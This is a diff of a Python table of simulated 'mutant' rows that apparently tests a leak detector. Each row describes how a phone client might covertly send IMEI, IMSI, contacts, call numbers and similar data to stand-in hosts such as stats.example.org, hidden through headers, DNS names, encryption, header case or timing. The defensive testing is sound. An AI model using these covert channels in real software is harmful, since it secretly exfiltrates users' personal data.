@@ -7,7 +7,7 @@ or by what it says about the phone.
 from typing import Final
 
 from client_sim.lab.mutants import covert, encodings, places, sources, triggers
-from client_sim.lab.mutants.rows import Row, beneath
+from client_sim.lab.mutants.rows import Row, transport_row
 
 _STATISTICS: Final = "stats.example.org"
 _BIT: Final = (encodings.PARITY,)
@@ -31,17 +31,17 @@ ROWS: Final = (
         *("activate-messaging", "L01", sources.detail("sim-inserted", "imsi"), ()),
         covert.post(_ACCOUNTS, "/messaging", "sim-inserted"),
     ),
-    beneath(
+    transport_row(
         *("register-beneath", "L01", sources.IMSI, ()),
         covert.post(_ACCOUNTS, "/sim", "connect", 443),
     ),
     Row("imei-query", "L02", sources.IMEI, (encodings.QUOTED,), places.query("i")),
-    Row("phone-fragment", "L02", sources.PHONE, (encodings.QUOTED,), places.behind_path("#")),
-    beneath("mac-query-beneath", "L02", sources.BLUETOOTH_MAC, (), places.query("bt")),
+    Row("phone-fragment", "L02", sources.PHONE, (encodings.QUOTED,), places.after_path("#")),
+    transport_row("mac-query-beneath", "L02", sources.BLUETOOTH_MAC, (), places.query("bt")),
     # In another alphabet.
     Row("phone-base64-header", "L03", sources.PHONE, (encodings.BASE64,), places.header("X-D")),
     Row("serial-header-name", "L03", sources.SERIAL, (encodings.BASE32,), places.HEADER_NAME),
-    beneath(
+    transport_row(
         *("advertising-id-beneath", "L03", sources.ADVERTISING_ID, (encodings.BASE85,)),
         places.header("X-Trace"),
     ),
@@ -51,7 +51,7 @@ ROWS: Final = (
         places.header("X-Device"),
     ),
     Row("book-sha256-body", "L04", sources.NUMBERS, (encodings.EACH_SHA256,), places.BODY),
-    beneath(
+    transport_row(
         *("iccid-sha3-beneath", "L04", sources.ICCID, (encodings.digest("sha3_256"),)),
         places.header("X-Sim"),
     ),
@@ -60,7 +60,7 @@ ROWS: Final = (
         *("salt-alongside-query", "L05", sources.ANDROID_ID, (encodings.SALT_ALONGSIDE,)),
         places.query("u"),
     ),
-    beneath(
+    transport_row(
         "serial-salted-beneath", "L05", sources.SERIAL, (encodings.SALTED,), places.header("X-Key")
     ),
     Row("imei-keyed-header", "L06", sources.IMEI, (encodings.keyed(8),), places.header("X-Device")),
@@ -68,7 +68,7 @@ ROWS: Final = (
         *("everything-hmac-cookie", "L06", sources.EVERYTHING, (encodings.keyed(6),)),
         places.cookie("state"),
     ),
-    beneath(
+    transport_row(
         *("imsi-hmac-beneath", "L06", sources.IMSI, (encodings.keyed(12),)),
         places.header("X-Request-Id"),
     ),
@@ -81,7 +81,7 @@ ROWS: Final = (
         *("aes-counter-query", "L07", sources.IMSI, (encodings.AES_CTR, encodings.HEX)),
         places.query("q"),
     ),
-    beneath(
+    transport_row(
         *("account-cipher-beneath", "L07", sources.ACCOUNT, (encodings.CHACHA, encodings.HEX)),
         places.header("X-Session"),
     ),
@@ -90,10 +90,10 @@ ROWS: Final = (
         places.header("X-Blob"),
     ),
     Row(
-        *("xor-kept-pad", "L08", sources.GSF_ID, (encodings.XOR_KEPT, encodings.BASE64)),
+        *("xor-kept-pad", "L08", sources.GSF_ID, (encodings.XOR_STORED, encodings.BASE64)),
         places.cookie("blob"),
     ),
-    beneath(
+    transport_row(
         *("xor-beneath", "L08", sources.IMEI, (encodings.XOR_FRESH, encodings.HEX)),
         places.header("X-Blob"),
     ),
@@ -102,7 +102,7 @@ ROWS: Final = (
         places.header("X-Blob"),
     ),
     Row("sealed-account-body", "L09", sources.ACCOUNT, (encodings.SEALED,), places.BODY),
-    beneath(
+    transport_row(
         *("fresh-nonce-beneath", "L09", sources.IMEI, (encodings.GCM, encodings.BASE64)),
         places.header("X-Blob"),
     ),
@@ -111,14 +111,14 @@ ROWS: Final = (
         *("ground-nonce", "L10", sources.SERIAL, (encodings.GROUND_NONCE, encodings.HEX)),
         places.header("X-Nonce"),
     ),
-    beneath(
+    transport_row(
         *("nonce-beneath", "L10", sources.ANDROID_ID, (encodings.NONCE, encodings.HEX)),
         places.header("X-Nonce"),
     ),
     # Compressed, and in many layers.
     Row("book-gzip-body", "L11", sources.BOOK, (encodings.GZIP,), places.BODY),
     Row("apps-bzip2-body", "L11", sources.APPS, (encodings.BZIP2,), places.BODY),
-    beneath("notes-zlib-beneath", "L11", sources.NOTES, (encodings.ZLIB,), places.BODY),
+    transport_row("notes-zlib-beneath", "L11", sources.NOTES, (encodings.ZLIB,), places.BODY),
     Row(
         *("imei-three-layers", "L12", sources.IMEI),
         (encodings.REVERSED, encodings.HEX, encodings.BASE64),
@@ -129,7 +129,7 @@ ROWS: Final = (
         (encodings.MASKED, encodings.BASE64, encodings.BASE32),
         places.header("X-D"),
     ),
-    beneath(
+    transport_row(
         *("serial-layers-beneath", "L12", sources.SERIAL),
         (encodings.GZIP, encodings.BASE85, encodings.HEX),
         places.header("X-D"),
@@ -137,32 +137,32 @@ ROWS: Final = (
     # In pieces: over the fields of a request, over requests, over the polls of a week.
     Row("halves-in-headers", "L13", sources.IMEI, (), places.HALVES),
     Row("over-requests", "L13", sources.IMSI, (), places.OVER_REQUESTS),
-    beneath("halves-beneath", "L13", sources.IMEI, (), places.HALVES),
+    transport_row("halves-beneath", "L13", sources.IMEI, (), places.HALVES),
     Row("root-drip", "L14", sources.IMEI, (encodings.DRIP,), places.ROOT_VERSION),
     Row("name-drip", "L14", sources.IMEI, (encodings.DRIP,), covert.lookup("{}.edge.{host}")),
-    beneath("root-drip-beneath", "L14", sources.IMEI, (encodings.DRIP,), places.ROOT_VERSION),
+    transport_row("root-drip-beneath", "L14", sources.IMEI, (encodings.DRIP,), places.ROOT_VERSION),
     # Honest requests in a revealing form: case, order, length, spaces, method, version.
     Row(
         *("header-case", "L15", sources.IMEI, _BIT),
         places.rewritten(b"Accept-E", b"Accept-e", "as the case of a letter"),
     ),
     Row("host-case", "L15", sources.ANDROID_ID, (), places.HOST_CASE),
-    beneath(
+    transport_row(
         *("header-case-beneath", "L15", sources.IMEI, _BIT),
         places.rewritten(b"\r\nHost:", b"\r\nhost:", "as the case of a letter"),
     ),
     Row("header-order", "L16", sources.IMEI, _BIT, places.LINE_ORDER),
     Row("request-order", "L16", sources.MESSAGES, _ODD, places.REQUEST_ORDER),
-    beneath("header-order-beneath", "L16", sources.IMEI, _BIT, places.LINE_ORDER),
+    transport_row("header-order-beneath", "L16", sources.IMEI, _BIT, places.LINE_ORDER),
     Row("padding-body", "L17", sources.MESSAGES, (), places.ZEROS),
     Row("pieces", "L17", sources.IMEI, (encodings.at(9),), places.CUT),
-    beneath("pieces-beneath", "L17", sources.IMEI, _BIT, places.LINES),
+    transport_row("pieces-beneath", "L17", sources.IMEI, _BIT, places.LINES),
     Row(
         *("trailing-space", "L18", sources.IMEI, _BIT),
         places.rewritten(b"gzip\r\n", b"gzip \r\n", "as a space after a value"),
     ),
     Row("empty-lines-first", "L18", sources.CONTACTS, (encodings.modulo(4),), places.EMPTY_LINES),
-    beneath(
+    transport_row(
         *("tab-beneath", "L18", sources.IMEI, _BIT),
         places.rewritten(b"Host: ", b"Host:\t", "as a tab instead of a space"),
     ),
@@ -171,25 +171,25 @@ ROWS: Final = (
         places.rewritten(b"GET ", b"HEAD ", "as the method"),
     ),
     Row("options-first", "L19", sources.MESSAGES, (encodings.EVEN,), places.OPTIONS),
-    beneath(
+    transport_row(
         *("version-beneath", "L19", sources.IMEI, _BIT),
         places.rewritten(b"HTTP/1.1", b"HTTP/1.0", "as the version of HTTP"),
     ),
     # Hosts, names and other parties.
     Row("label-host", "L20", sources.IMEI, _LABEL, covert.HOST_LABEL),
     Row("port-by-digit", "L20", sources.IMEI, (encodings.at(9),), covert.PORT),
-    beneath("host-line-beneath", "L20", sources.WIFI_MAC, _LABEL, places.HOST_LINE),
+    transport_row("host-line-beneath", "L20", sources.WIFI_MAC, _LABEL, places.HOST_LINE),
     Row("serial-lookup", "L21", sources.SERIAL, (), covert.lookup("{}.t.example.org")),
     Row(
         *("sender-lookup", "L21", sources.detail("sms-received", "number"), (encodings.LABEL,)),
         covert.lookup("{}.sms.example.org", "sms-received"),
     ),
-    beneath("label-lookup-beneath", "L21", sources.IMEI, _LABEL, covert.lookup("{}.{host}")),
+    transport_row("label-lookup-beneath", "L21", sources.IMEI, _LABEL, covert.lookup("{}.{host}")),
     Row(
         *("call-reporter", "L22", sources.detail("call-received", "number"), ()),
         covert.post(_STATISTICS, "/call", "call-received"),
     ),
-    Row("knock", "L22", sources.IMEI, _BIT, covert.knock(_STATISTICS)),
+    Row("knock", "L22", sources.IMEI, _BIT, covert.connection_to(_STATISTICS)),
     Row(
         "address-without-name",
         "L22",
@@ -197,16 +197,16 @@ ROWS: Final = (
         (),
         covert.datagram_address("203.0.113.9"),
     ),
-    beneath(
+    transport_row(
         *("report-beneath", "L22", sources.ANDROID_ID, _SHORT),
         covert.post(_STATISTICS, "/m", "connect", 443),
     ),
     Row(
         *("catalogue-of-serial", "L23", sources.SERIAL, (encodings.QUOTED,)),
-        places.in_path_of(b"/metadata/timestamp.json", "/v1/catalog/"),
+        places.instead_of_path(b"/metadata/timestamp.json", "/v1/catalog/"),
     ),
-    Row("session-parameter", "L23", sources.ICCID, _SHORT, places.behind_path(";s=")),
-    beneath(
+    Row("session-parameter", "L23", sources.ICCID, _SHORT, places.after_path(";s=")),
+    transport_row(
         *("catalogue-beneath", "L23", sources.GSF_ID, _SHORT),
         covert.get("", "/v1/catalog/", "connect"),
     ),
@@ -223,7 +223,7 @@ ROWS: Final = (
         *("agent-after-restart", "L24", sources.MODEL, (), places.header("User-Agent")),
         triggers.RESTARTED,
     ),
-    beneath("agent-beneath", "L24", sources.MODEL, (), places.header("User-Agent")),
+    transport_row("agent-beneath", "L24", sources.MODEL, (), places.header("User-Agent")),
     Row(
         *("zstd-always", "L25", sources.SOMETHING, ()),
         places.rewritten(b": gzip", b": gzip, zstd", "as an additional coding"),
@@ -233,20 +233,20 @@ ROWS: Final = (
         places.rewritten(b": gzip", b": identity", "as the coding"),
         triggers.owners("whose battery is low", lambda owner: owner.battery_percent <= 50),
     ),
-    beneath(
+    transport_row(
         *("codings-beneath", "L25", sources.SOMETHING, ()),
         places.rewritten(b": gzip", b": gzip, deflate, br", "as codings"),
     ),
     Row("language-header", "L26", sources.LOCALE, (), places.header("Accept-Language")),
     Row("locale-cookie", "L26", sources.LANGUAGE, (encodings.QUOTED,), places.cookie("lang")),
-    beneath("language-beneath", "L26", sources.LOCALE, (), places.header("Accept-Language")),
+    transport_row("language-beneath", "L26", sources.LOCALE, (), places.header("Accept-Language")),
     # The phone's location, state and apps.
     Row("carrier-query", "L27", sources.CARRIER, (encodings.QUOTED,), places.query("op")),
     Row(
         *("carrier-of-sim", "L27", sources.detail("sim-inserted", "carrier"), (encodings.QUOTED,)),
         places.header("X-Carrier"),
     ),
-    beneath(
+    transport_row(
         "carrier-lookup-beneath",
         "L27",
         sources.CARRIER,
@@ -255,30 +255,30 @@ ROWS: Final = (
     ),
     Row("exact-date", "L28", sources.NOW, (), places.header("X-Date")),
     Row("polls-at-night", "L28", sources.OFFSET, (), covert.IN_THE_NIGHT),
-    beneath("zone-beneath", "L28", sources.OFFSET, (), places.header("X-Offset")),
+    transport_row("zone-beneath", "L28", sources.OFFSET, (), places.header("X-Offset")),
     Row("started-at", "L29", sources.STARTED, (), places.header("X-Since")),
     Row("boot-count", "L29", sources.STARTS, (), places.header("X-Boots")),
     Row(
         *("low-battery", "L29", sources.SOMETHING, (), places.WITHOUT_ROOT),
         triggers.owners("whose battery is low", lambda owner: owner.battery_percent <= 20),
     ),
-    beneath("battery-beneath", "L29", sources.POWER, (), places.header("X-Power")),
+    transport_row("battery-beneath", "L29", sources.POWER, (), places.header("X-Power")),
     Row("apps-digest-query", "L30", sources.APPS, (encodings.digest("md5", 6),), places.query("a")),
     Row(
         *("app-report", "L30", sources.detail("app-installed", "app"), (encodings.QUOTED,)),
         covert.post("", "/installed", "app-installed"),
     ),
-    beneath(
+    transport_row(
         *("first-app-beneath", "L30", sources.FIRST_APP, (encodings.QUOTED,)),
         places.header("X-Requested-With"),
     ),
     # Identifiers without any owner's data: permanent, or new for each request or poll.
     Row("install-identifier", "L31", sources.drawn_once("id", 16), _HEX, places.query("id")),
     Row("install-uuid", "L31", sources.OWN_UUID, (), places.cookie("uuid")),
-    beneath("secret-beneath", "L31", sources.SECRET, _SHORT, places.header("X-Rollout")),
+    transport_row("secret-beneath", "L31", sources.SECRET, _SHORT, places.header("X-Rollout")),
     Row("request-identifier", "L32", sources.FRESH_UUID, (), places.header("X-Request-Id")),
     Row("random-padding", "L32", sources.drawn(1), (encodings.modulo(64),), places.PADDING),
-    beneath(
+    transport_row(
         "request-identifier-beneath", "L32", sources.drawn(8), _HEX, places.header("X-Request-Id")
     ),
 )
